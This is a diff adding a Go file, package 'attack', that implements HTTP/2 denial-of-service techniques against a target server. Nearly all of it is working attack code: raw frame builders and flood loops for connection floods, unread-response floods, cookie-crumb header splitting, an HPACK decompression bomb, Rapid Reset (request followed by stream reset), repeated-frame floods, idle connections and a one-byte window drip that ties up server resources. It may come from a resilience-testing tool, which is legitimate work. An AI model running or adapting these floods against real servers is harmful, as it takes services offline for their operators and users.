@@ -1,0 +1,211 @@
+package attack
+
+import (
+	"context"
+	"encoding/binary"
+	"fmt"
+	"io"
+	"net"
+	"strings"
+	"time"
+
+	"golang.org/x/net/http2"
+	"golang.org/x/net/http2/hpack"
+)
+
+const (
+	frameHeaders      = byte(http2.FrameHeaders)
+	framePriority     = byte(http2.FramePriority)
+	frameReset        = byte(http2.FrameRSTStream)
+	frameSettings     = byte(http2.FrameSettings)
+	framePing         = byte(http2.FramePing)
+	frameWindowUpdate = byte(http2.FrameWindowUpdate)
+
+	endStreamAndHeaders = 0x5
+)
+
+// frame returns an HTTP/2 frame (RFC 9113, section 4.1).
+func frame(kind, flags byte, stream uint32, payload []byte) []byte {
+	n := len(payload)
+	head := []byte{byte(n >> 16), byte(n >> 8), byte(n), kind, flags, 0, 0, 0, 0}
+	binary.BigEndian.PutUint32(head[5:], stream)
+	return append(head, payload...)
+}
+
+// peer is one HTTP/2 connection, whose requests are written as they are.
+type peer struct {
+	net.Conn
+	enc    *hpack.Encoder
+	block  []byte // what enc writes
+	stream uint32 // the next one
+}
+
+func (p *peer) write(b []byte) error {
+	_, err := p.Write(b)
+	return err
+}
+
+// blockWriter is where the encoder writes.
+type blockWriter struct{ p *peer }
+
+func (w blockWriter) Write(b []byte) (int, error) {
+	w.p.block = append(w.p.block, b...)
+	return len(b), nil
+}
+
+// open returns a connection that has sent its settings; settings are pairs of identifier and value.
+func open(ctx context.Context, address string, settings ...uint32) (*peer, error) {
+	c, err := dialTLS(ctx, address, "h2")
+	if err != nil {
+		return nil, err
+	}
+	p := &peer{Conn: c, stream: 1}
+	p.enc = hpack.NewEncoder(blockWriter{p})
+	var payload []byte
+	for i := 0; i+1 < len(settings); i += 2 {
+		payload = binary.BigEndian.AppendUint16(payload, uint16(settings[i]))
+		payload = binary.BigEndian.AppendUint32(payload, settings[i+1])
+	}
+	if err := p.write(append([]byte(http2.ClientPreface), frame(frameSettings, 0, 0, payload)...)); err != nil {
+		_ = c.Close()
+		return nil, err
+	}
+	return p, nil
+}
+
+// request returns the frame of a request with more fields.
+func (p *peer) request(more ...hpack.HeaderField) []byte {
+	p.block = p.block[:0]
+	for _, f := range append([]hpack.HeaderField{
+		{Name: ":method", Value: "GET"}, {Name: ":scheme", Value: "https"}, {Name: ":authority", Value: host}, {Name: ":path", Value: path},
+	}, more...) {
+		if err := p.enc.WriteField(f); err != nil {
+			panic(fmt.Sprint("an encoder in memory failed: ", err))
+		}
+	}
+	text := frame(frameHeaders, endStreamAndHeaders, p.stream, p.block)
+	p.stream += 2
+	return text
+}
+
+// requests returns n of them in a row.
+func (p *peer) requests(n int, more ...hpack.HeaderField) []byte {
+	var all []byte
+	for range n {
+		all = append(all, p.request(more...)...)
+	}
+	return all
+}
+
+// flood writes what next returns until the connection fails. It reads and forgets the answers, or does not.
+func flood(ctx context.Context, address string, reads bool, next func(p *peer) []byte) error {
+	p, err := open(ctx, address)
+	if err != nil {
+		return err
+	}
+	defer p.Close()
+	if reads {
+		go untilClosed(p) //nolint:errcheck // it ends with the connection
+	}
+	for p.stream < 1<<30 {
+		if err := p.write(next(p)); err != nil {
+			return err
+		}
+	}
+	return nil
+}
+
+func http2Load(ctx context.Context, address string) error {
+	return flood(ctx, address, true, func(p *peer) []byte { return p.requests(100) })
+}
+
+func http2Unread(ctx context.Context, address string) error {
+	return flood(ctx, address, false, func(p *peer) []byte { return p.requests(100) })
+}
+
+// http2CookieCrumbs sends some 400 fields of one byte each per request, which the server has to keep apart.
+func http2CookieCrumbs(ctx context.Context, address string) error {
+	var crumbs []hpack.HeaderField
+	for range 400 {
+		crumbs = append(crumbs, hpack.HeaderField{Name: "cookie", Value: "a"})
+	}
+	return flood(ctx, address, true, func(p *peer) []byte { return p.requests(20, crumbs...) })
+}
+
+// http2HPACKBomb refers to one long field again and again: 2 KiB on the wire stand for megabytes.
+func http2HPACKBomb(ctx context.Context, address string) error {
+	long := hpack.HeaderField{Name: "x", Value: strings.Repeat("a", 3900)}
+	var bomb []hpack.HeaderField
+	for range 2000 {
+		bomb = append(bomb, long)
+	}
+	return flood(ctx, address, true, func(p *peer) []byte { return p.requests(10, bomb...) })
+}
+
+func http2RapidReset(ctx context.Context, address string) error {
+	return flood(ctx, address, true, func(p *peer) []byte {
+		var all []byte
+		for range 100 {
+			all = append(all, p.request()...)
+			all = append(all, frame(frameReset, 0, p.stream-2, []byte{0, 0, 0, 8})...)
+		}
+		return all
+	})
+}
+
+// http2Flood sends one frame over and over.
+func http2Flood(f []byte) func(ctx context.Context, address string) error {
+	var batch []byte
+	for len(batch) < 16<<10 {
+		batch = append(batch, f...)
+	}
+	return func(ctx context.Context, address string) error {
+		return flood(ctx, address, true, func(*peer) []byte { return batch })
+	}
+}
+
+func http2Idle(ctx context.Context, address string) error {
+	p, err := open(ctx, address)
+	if err != nil {
+		return err
+	}
+	defer p.Close()
+	if err := p.write(p.request()); err != nil {
+		return err
+	}
+	return untilClosed(p)
+}
+
+// http2WindowDrip asks for as much as it may and takes a byte of each answer at a time.
+func http2WindowDrip(ctx context.Context, address string) error {
+	p, err := open(ctx, address, uint32(http2.SettingInitialWindowSize), 0)
+	if err != nil {
+		return err
+	}
+	defer p.Close()
+	ended := make(chan struct{})
+	go func() {
+		defer close(ended)
+		_, _ = io.Copy(io.Discard, p)
+	}()
+	for p.stream < 1<<30 {
+		if err := p.write(p.requests(100)); err != nil {
+			return err
+		}
+		for range 4 {
+			select {
+			case <-ended:
+				return io.EOF
+			case <-time.After(500 * time.Millisecond):
+			}
+			var drips []byte
+			for s := p.stream - 200; s < p.stream; s += 2 {
+				drips = append(drips, frame(frameWindowUpdate, 0, s, []byte{0, 0, 0, 1})...)
+			}
+			if err := p.write(drips); err != nil {
+				return err
+			}
+		}
+	}
+	return nil
+}
